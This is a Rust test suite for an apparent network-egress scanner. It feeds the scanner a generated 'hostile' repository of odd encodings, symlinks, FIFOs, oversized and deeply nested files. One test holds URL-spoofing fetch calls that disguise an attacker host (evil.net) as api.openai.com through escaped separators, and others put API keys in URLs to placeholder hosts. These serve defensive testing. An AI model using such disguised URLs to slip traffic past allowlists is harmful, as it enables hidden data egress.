//! A hostile repository, generated at test time (most of it cannot live in
//! git): encodings, binary and huge files, deep nesting, symlinks, special
//! files and odd names. The scan must finish, count what it skipped and
//! still find the real endpoint. See issue 8.

use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;
use std::time::Duration;

use crate::common::{egress_scan, strings};

/// A hang guard, not a timed assertion: debug builds on a loaded machine
/// take a few seconds for this corpus.
const HANG_GUARD: Duration = Duration::from_secs(120);

/// The endpoint of the one ordinary file; it must always be found.
const REAL: &str = "https://real.example.com/v1/ping";

const KOTLIN_IMPORTS: &str = "import okhttp3.OkHttpClient\nimport okhttp3.Request\n";

pub struct Corpus {
    pub dir: tempfile::TempDir,
    /// Holds the target of the outward symlink; must outlive the scan.
    _outside: tempfile::TempDir,
    /// False when running as root, where mode 000 files stay readable.
    pub unreadable_is_unreadable: bool,
}

fn deep_call(n: usize) -> String {
    format!(
        "fetch(\"https://deep-call.example.com/x\");\nconst x = {}1{};\n",
        "f(\n".repeat(n),
        ")\n".repeat(n)
    )
}

fn deep_template(n: usize) -> String {
    format!(
        "fetch(\"https://deep-template.example.com/x\");\nconst t = {}1{};\n",
        "`a${\n".repeat(n),
        "}`\n".repeat(n)
    )
}

/// The corpus, with expressions nested `depth` levels deep.
pub fn hostile_corpus(depth: usize) -> Corpus {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path();
    let outside = tempfile::tempdir().expect("temp dir");

    // The ordinary file.
    fs::write(
        root.join("client.ts"),
        format!("export const ping = () => fetch(\"{REAL}\");\n"),
    )
    .unwrap();

    // Encodings: Latin-1 bytes inside a string, mixed with UTF-8.
    let mut latin1 =
        b"const caf\xe9 = \"na\xefve \xc3\xa9\";\nfetch(\"https://latin1.example.com/a\");\n".to_vec();
    latin1.extend_from_slice(b"// \xff\xfe\xfd broken tail\n");
    fs::write(root.join("latin1.ts"), latin1).unwrap();
    // UTF-16 LE with BOM: NUL bytes everywhere; read lossily like any source
    // file (no trigger word survives the NULs).
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(
            "fetch(\"https://utf16.example.com/\");\n"
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        )
        .collect();
    fs::write(root.join("utf16.ts"), utf16).unwrap();
    fs::write(
        root.join("nul.ts"),
        b"fetch(\"https://nul.example.com/\");\0\0\0\n",
    )
    .unwrap();

    // 50 MB, sparse: skipped by size, never read.
    let big = fs::File::create(root.join("huge.ts")).unwrap();
    big.set_len(50 * 1024 * 1024).unwrap();
    // 5 MB on one line: a minified bundle (under a raised size limit below).
    let mut bundle = String::from("fetch(\"https://bundle.example.com/\");");
    while bundle.len() < 5 * 1024 * 1024 {
        bundle.push_str("var a=function(b){return b+1};");
    }
    fs::write(root.join("bundle.js"), bundle).unwrap();

    // Deep nesting.
    fs::write(root.join("deep_call.ts"), deep_call(depth)).unwrap();
    fs::write(root.join("deep_template.ts"), deep_template(depth)).unwrap();
    fs::write(
        root.join("deep_plus.ts"),
        format!(
            "fetch(\"https://deep-plus.example.com/x\");\nconst s = {};\n",
            vec!["\"a\""; depth].join(" +\n")
        ),
    )
    .unwrap();
    fs::write(
        root.join("Deep.kt"),
        format!(
            "{}fun main() {{\n    OkHttpClient().newCall(Request.Builder().url(\"https://deep-kotlin.example.com/x\").build()).execute()\n    val x = {}1{}\n}}\n",
            KOTLIN_IMPORTS,
            "f(\n".repeat(depth.min(3_000)),
            ")\n".repeat(depth.min(3_000))
        ),
    )
    .unwrap();

    // Symlinks: a loop and one leaving the root (not followed).
    fs::create_dir(root.join("loop")).unwrap();
    symlink("..", root.join("loop/up")).unwrap();
    symlink(root.join("loop"), root.join("loop/self")).unwrap();
    fs::write(
        outside.path().join("secret.ts"),
        "fetch(\"https://outside.example.com/\");\n",
    )
    .unwrap();
    symlink(outside.path().join("secret.ts"), root.join("escape.ts")).unwrap();
    symlink(outside.path(), root.join("escape_dir")).unwrap();

    // Unreadable file.
    let locked = root.join("locked.ts");
    fs::write(&locked, "fetch(\"https://locked.example.com/\");\n").unwrap();
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o000)).unwrap();
    // Root reads mode 000 files anyway: then there is nothing to count.
    let unreadable_is_unreadable = fs::File::open(&locked).is_err();

    // A FIFO named like source: opening it would block forever.
    let fifo = root.join("pipe.ts");
    let status = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo runs");
    assert!(status.success());

    // Odd names.
    fs::write(
        root.join("new\nline.ts"),
        "fetch(\"https://newline-name.example.com/\");\n",
    )
    .unwrap();
    let bad_name = std::ffi::OsStr::from_bytes(b"bad\xffname.ts");
    fs::write(root.join(bad_name), "fetch(\"https://bad-name.example.com/\");\n").unwrap();

    // 200 levels of empty directories.
    let mut deep_dir = root.to_path_buf();
    for i in 0..200 {
        deep_dir.push(format!("d{i}"));
    }
    fs::create_dir_all(&deep_dir).unwrap();

    Corpus {
        dir,
        _outside: outside,
        unreadable_is_unreadable,
    }
}

impl Drop for Corpus {
    fn drop(&mut self) {
        // Let the temp dir be removed when not running as root.
        let _ = fs::set_permissions(
            self.dir.path().join("locked.ts"),
            fs::Permissions::from_mode(0o644),
        );
    }
}

/// Runs `scan` on `root` with extra args; returns stdout.
pub fn run_scan(root: &Path, args: &[&str]) -> Vec<u8> {
    let out = egress_scan()
        .arg("scan")
        .arg(root)
        .args(["--max-file-size", "8000000"])
        .args(args)
        .timeout(HANG_GUARD)
        .output()
        .expect("runs");
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "status {:?}: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

#[test]
fn hostile_repository_is_scanned_without_panic_or_hang() {
    let corpus = hostile_corpus(10_000);
    let stdout = run_scan(corpus.dir.path(), &["-f", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&stdout).expect("valid JSON");
    let urls: Vec<&str> = strings(&report, "endpoints", "url");
    let has = |needle: &str| urls.iter().any(|u| u.contains(needle));

    // The rest of the repository is still scanned.
    assert!(has("real.example.com"), "{urls:?}");
    assert!(has("latin1.example.com"), "{urls:?}");
    assert!(has("deep-call.example.com"), "{urls:?}");
    assert!(has("deep-template.example.com"), "{urls:?}");
    assert!(has("deep-plus.example.com"), "{urls:?}");
    assert!(has("deep-kotlin.example.com"), "{urls:?}");
    assert!(has("newline-name.example.com"), "{urls:?}");
    assert!(has("bad-name.example.com"), "{urls:?}");
    // Symlinks are not followed, so nothing outside the root is read.
    assert!(!has("outside.example.com"), "{urls:?}");
    // Source files are scanned whatever their bytes, minified or not.
    assert!(has("nul.example.com"), "{urls:?}");
    assert!(has("bundle.example.com"), "{urls:?}");
    // Skipped files contribute nothing.
    for skipped in ["utf16", "locked.example"] {
        if skipped == "locked.example" && !corpus.unreadable_is_unreadable {
            continue;
        }
        assert!(!has(skipped), "{skipped}: {urls:?}");
    }

    let skipped = &report["stats"]["files_skipped"];
    assert_eq!(skipped["binary"], 0, "source files are never binary: {skipped}");
    assert_eq!(skipped["too_large"], 1, "the 50 MB file: {skipped}");
    assert_eq!(skipped["minified"], 0, "minified files are scanned: {skipped}");
    assert_eq!(
        skipped["symlink_or_special"], 2,
        "escape.ts (symlink) and pipe.ts (FIFO): {skipped}"
    );
    if corpus.unreadable_is_unreadable {
        assert_eq!(skipped["unreadable"], 1, "the mode 000 file: {skipped}");
    } else {
        // Running as root: mode 000 does not stop reads, the file is scanned.
        eprintln!("running as root: mode 000 file is readable, unreadable count not asserted");
    }

    // Names are reported (lossily for non-UTF-8) and survive the JSON round trip.
    let files: Vec<&str> = report["endpoints"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|e| e["locations"].as_array().unwrap())
        .map(|l| l["file"].as_str().unwrap())
        .collect();
    assert!(files.contains(&"new\nline.ts"), "{files:?}");
    assert!(files.contains(&"bad\u{fffd}name.ts"), "{files:?}");
}

#[test]
fn deep_nesting_in_every_language_finishes() {
    // Kotlin and Swift at the depth that used to hang (issue 8).
    let dir = tempfile::tempdir().unwrap();
    let n = 3_000;
    fs::write(
        dir.path().join("Deep.kt"),
        format!(
            "{}fun main() {{\n    OkHttpClient().newCall(Request.Builder().url(\"https://kt.example.com/x\").build()).execute()\n    val s = {}\n}}\n",
            KOTLIN_IMPORTS,
            vec!["\"a\""; n].join(" +\n")
        ),
    )
    .unwrap();
    fs::write(
        dir.path().join("Deep.swift"),
        format!(
            "let u = URL(string: \"https://swift.example.com/x\")!\nURLSession.shared.dataTask(with: u)\nlet x = {}1{}\n",
            "f(\n".repeat(n),
            ")\n".repeat(n)
        ),
    )
    .unwrap();
    let chain: String = (0..200).map(|i| format!("\n  .m{i}(\"x\")")).collect();
    fs::write(
        dir.path().join("chain.ts"),
        format!("fetch(\"https://chain.example.com/x\");\nconst b = a{chain};\n"),
    )
    .unwrap();
    let report: serde_json::Value =
        serde_json::from_slice(&run_scan(dir.path(), &["-f", "json"])).expect("valid JSON");
    let text = report["endpoints"].to_string();
    for host in ["kt.example.com", "chain.example.com"] {
        assert!(text.contains(host), "{host}: {text}");
    }
    assert_eq!(report["stats"]["files_parsed"], 3, "{}", report["stats"]);
}

#[test]
fn runaway_parse_is_abandoned_and_counted() {
    // Found by fuzzing: tree-sitter-kotlin-ng's error recovery loops on it.
    let dir = tempfile::tempdir().unwrap();
    let input =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fuzz_regressions/analyse_kotlin/parse-loop-nsd.kt");
    fs::copy(&input, dir.path().join("Loop.kt")).unwrap();
    fs::write(
        dir.path().join("Client.kt"),
        format!(
            "{}fun main() {{\n    OkHttpClient().newCall(Request.Builder().url(\"https://after-loop.example.com/x\").build()).execute()\n}}\n",
            KOTLIN_IMPORTS
        ),
    )
    .unwrap();
    let stdout = run_scan(dir.path(), &["-f", "json", "--no-cache"]);
    let report: serde_json::Value = serde_json::from_slice(&stdout).expect("valid JSON");
    assert_eq!(
        report["stats"]["files_skipped"]["parse_abandoned"], 1,
        "{}",
        report["stats"]
    );
    let urls: Vec<&str> = strings(&report, "endpoints", "url");
    assert!(
        urls.iter().any(|u| u.contains("after-loop.example.com")),
        "{urls:?}"
    );
}

/// Runs `scan -f json --no-cache` on `root` and parses the report.
fn scan_report(root: &Path) -> serde_json::Value {
    let stdout = run_scan(root, &["-f", "json", "--no-cache"]);
    serde_json::from_slice(&stdout).expect("valid JSON")
}

/// `(file, host)` of every endpoint location.
fn hosts_by_file(report: &serde_json::Value) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = report["endpoints"]
        .as_array()
        .expect("endpoints")
        .iter()
        .flat_map(|e| {
            let host = e["host"].as_str().unwrap_or("").to_string();
            e["locations"]
                .as_array()
                .into_iter()
                .flatten()
                .map(move |l| (l["file"].as_str().unwrap_or("").to_string(), host.clone()))
        })
        .collect();
    out.sort();
    out.dedup();
    out
}

#[test]
fn escaped_separators_do_not_turn_an_attacker_host_into_a_trusted_one() {
    // Node connects to evil.net for each of these; the naive split saw
    // api.openai.com (OpenAI, an allowed service).
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let cases: &[(&str, &str, &str)] = &[
        ("u5c.ts", r#"fetch("https://evil.net\u005c@api.openai.com/v1/chat");"#, "evil.net"),
        ("bs.ts", r#"fetch("https://evil.net\\@api.openai.com/");"#, "evil.net"),
        ("u2f.ts", r#"fetch("https://evil.net\u002f@api.openai.com/");"#, "evil.net"),
        ("brace.ts", r#"fetch("https://evil.net\u{5C}@api.openai.com/");"#, "evil.net"),
        ("hex.ts", r#"fetch("https://evil.net\x5c@api.openai.com/");"#, "evil.net"),
        ("tpl.ts", r#"fetch(`https://evil.net\u005c@api.openai.com/${path}`);"#, "evil.net"),
        ("e.ts", r#"fetch("https://\u0065vil.net");"#, "evil.net"),
        ("pct.ts", r#"fetch("https://api.openai.com%2eevil.net/");"#, "api.openai.com.evil.net"),
        ("cont.ts", "fetch(\"https://evil\\\n.net/\");", "evil.net"),
        (
            "Evil.swift",
            "let u = URL(string: \"https://evil.net\\u{5C}@api.openai.com/v1\")!\nURLSession.shared.dataTask(with: u)\n",
            "evil.net",
        ),
        (
            "Evil.kt",
            "import okhttp3.OkHttpClient\nimport okhttp3.Request\nfun main() {\n    OkHttpClient().newCall(Request.Builder().url(\"https://evil.net\\u005C@api.openai.com/v1\").build()).execute()\n}\n",
            "evil.net",
        ),
    ];
    for (name, text, _) in cases {
        fs::write(root.join(name), format!("{text}\n")).unwrap();
    }
    // Placeholder hosts keep working.
    fs::write(
        root.join("placeholder.ts"),
        "export function get(host: string) { return fetch(`https://${host}:8443/v1`); }\n\
         export const api = (id: string) => fetch(`https://api.openai.com/v1/${id}`);\n",
    )
    .unwrap();
    let report = scan_report(root);
    let hosts = hosts_by_file(&report);
    for (name, _, host) in cases {
        let found: Vec<&str> = hosts
            .iter()
            .filter(|(f, _)| f == name)
            .map(|(_, h)| h.as_str())
            .collect();
        assert_eq!(found, vec![*host], "{name}: {hosts:?}");
    }
    let placeholder: Vec<&str> = hosts
        .iter()
        .filter(|(f, _)| f == "placeholder.ts")
        .map(|(_, h)| h.as_str())
        .collect();
    assert_eq!(placeholder, vec!["api.openai.com"], "{hosts:?}");
    let urls = strings(&report, "endpoints", "url");
    assert!(
        urls.iter().all(|u| !u.to_ascii_lowercase().contains("u005c")),
        "escapes are decoded: {urls:?}"
    );
}

#[test]
fn source_files_are_scanned_whatever_their_bytes_and_case() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    // One NUL in a comment.
    fs::write(
        root.join("nul.js"),
        b"// build \0 marker\nfetch(\"https://nul-comment.example.net/x\");\n",
    )
    .unwrap();
    // Seven lines, one of them a long data URI.
    let data_uri = format!("const icon = \"data:image/png;base64,{}\";", "QUJD".repeat(2_000));
    fs::write(
        root.join("icon.js"),
        format!("// icons\n{data_uri}\n\nexport function ping() {{\n  return fetch(\"https://data-uri.example.net/x\");\n}}\n// end\n"),
    )
    .unwrap();
    // Upper-case extensions.
    fs::write(root.join("x.JS"), "fetch(\"https://upper-js.example.net/x\");\n").unwrap();
    fs::write(root.join("y.TS"), "fetch(\"https://upper-ts.example.net/x\");\n").unwrap();
    let report = scan_report(root);
    let hosts: Vec<String> = hosts_by_file(&report).into_iter().map(|(_, h)| h).collect();
    for host in [
        "nul-comment.example.net",
        "data-uri.example.net",
        "upper-js.example.net",
        "upper-ts.example.net",
    ] {
        assert!(hosts.iter().any(|h| h == host), "{host}: {hosts:?}");
    }
    let skipped = &report["stats"]["files_skipped"];
    assert_eq!(skipped["binary"], 0, "{skipped}");
    assert_eq!(skipped["minified"], 0, "{skipped}");
    assert_eq!(report["stats"]["files_parsed"], 4, "{}", report["stats"]);
}

#[test]
fn invalid_utf8_in_a_literal_keeps_the_literal_and_its_finding() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join("latin.ts"),
        b"export function send(apiKey: string) {\n  return fetch(\"https://latin1.example.net/caf\xe9?key=\" + apiKey);\n}\n",
    )
    .unwrap();
    let report = scan_report(dir.path());
    let hosts = hosts_by_file(&report);
    assert_eq!(
        hosts,
        vec![("latin.ts".to_string(), "latin1.example.net".to_string())],
        "{report}"
    );
    let findings = crate::common::findings(&report, "egress/token-in-url");
    assert_eq!(findings.len(), 1, "{report}");
    assert_eq!(report["stats"]["files_parsed"], 1, "{}", report["stats"]);
}

#[test]
fn long_concatenation_chains_keep_the_scheme_and_host() {
    for empties in [2, 47, 500] {
        let dir = tempfile::tempdir().unwrap();
        fs::write(
            dir.path().join("chain.ts"),
            format!(
                "export function send(apiKey: string) {{\n  return fetch(\"https://chain.example.net/v1?key=\" + apiKey{});\n}}\n",
                " + \"\"".repeat(empties)
            ),
        )
        .unwrap();
        let report = scan_report(dir.path());
        let hosts = hosts_by_file(&report);
        assert_eq!(
            hosts,
            vec![("chain.ts".to_string(), "chain.example.net".to_string())],
            "{empties}: {report}"
        );
        let findings = crate::common::findings(&report, "egress/token-in-url");
        assert_eq!(findings.len(), 1, "{empties}: {report}");
        assert_eq!(findings[0]["severity"], "high", "{empties}: {report}");
    }
}

#[test]
fn extraction_of_pathological_files_is_bounded_and_counted() {
    // Under 2 MiB each: a 100,000-term `+` chain and `f()()()…` 200,000
    // deep used to keep tree-sitter's query cursor busy for minutes.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    fs::write(
        root.join("plus.ts"),
        format!(
            "const u = \"https://c.x.net/?k=\"\n{};\nfetch(u);\n",
            " + \"a\"\n".repeat(100_000)
        ),
    )
    .unwrap();
    fs::write(
        root.join("calls.ts"),
        format!("fetch(\"https://calls.x.net/\");\nf{};\n", "()\n".repeat(200_000)),
    )
    .unwrap();
    // Wide, not deep: every literal argument names the same call.
    fs::write(
        root.join("args.ts"),
        format!(
            "fetch(\"https://args.x.net/\");\nf({});\n",
            "\"a\",\n".repeat(100_000)
        ),
    )
    .unwrap();
    fs::write(root.join("ok.ts"), "fetch(\"https://ok.x.net/\");\n").unwrap();
    let report = scan_report(root);
    let stats = &report["stats"];
    assert_eq!(stats["files_skipped"]["parse_abandoned"], 2, "{stats}");
    assert_eq!(stats["files_parsed"], 2, "{stats}");
    let hosts: Vec<String> = hosts_by_file(&report).into_iter().map(|(_, h)| h).collect();
    assert_eq!(hosts, vec!["args.x.net", "ok.x.net"], "{hosts:?}");
}
